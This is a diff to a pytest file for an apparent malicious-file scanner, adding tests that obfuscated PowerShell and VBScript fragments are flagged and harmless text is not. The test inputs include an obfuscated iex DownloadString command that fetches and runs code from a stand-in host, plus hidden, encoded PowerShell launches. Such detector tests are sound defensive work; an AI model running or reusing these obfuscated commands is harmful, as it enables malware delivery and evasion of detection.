@@ -268,12 +268,36 @@ def test_the_engines_agree(name: str, engine: str) -> None:
     assert sorted(map(repr, report.findings)) == sorted(map(repr, scan_bytes(data).findings))
 
 
+@pytest.mark.parametrize(
+    "script",
+    [
+        b"p^o^w^e^r^s^h^e^l^l -n^o^p -w h^i^d^d^e^n -e^n^c SQBFAFgA",
+        b"$a = 'Fro'+'mBase64String' ; $b = 'New-Ob'+'ject Net.Web'+'Client'",
+        b"i`e`x (New`-Obj`ect Net.WebC`li`ent).Downl`oadStr`ing('http://192.0.2.1/')",
+        b'x = "WScr" & "ipt.Shell" : CreateObj" & "ect(x)',
+    ],
+)
+def test_words_of_a_command_are_put_together(script: bytes) -> None:
+    report = scan_bytes(carrier().with_(*private(script)).data)
+    found = [each for each in report.findings if each.kind.id == "EMB-SCRIPT"]
+    assert ("broken words",) in {each.place.chain for each in found}
+    assert report.verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "text", [b"Doe^Jane^A^B^C^D^E", b"'a'+'b' and `T1` or `T2`", b'{"a":"b"+"c"} x^2^y^3^z^4^a']
+)
+def test_words_that_are_parted_in_honest_text_are_silent(text: bytes) -> None:
+    report = scan_bytes(carrier().with_(*private(text * 8)).data)
+    assert report.verdict is Verdict.CLEAN
+
+
 def test_every_wrapping_is_proven() -> None:
     names = {chain.split(" 0x")[0] for chain, _ in WRAPPINGS.values()}
     tables = {*BY_MAGIC, *(name.replace("_", " ") for name in BY_PLAINTEXT)}
     tables = {name.replace("rotated", "rotate").replace("xored", "xor") for name in tables}
     assert tables < names
-    assert len(BY_SEARCH) + len(BY_VALUE) == 11
+    assert len(BY_SEARCH) + len(BY_VALUE) == 12
     assert {"zlib", "deflate", "base64", "base32", "base85", "ascii85", "hex", "decimal",
             "uuencode", "UTF-16", "xor", "add"} < names  # fmt: skip
 
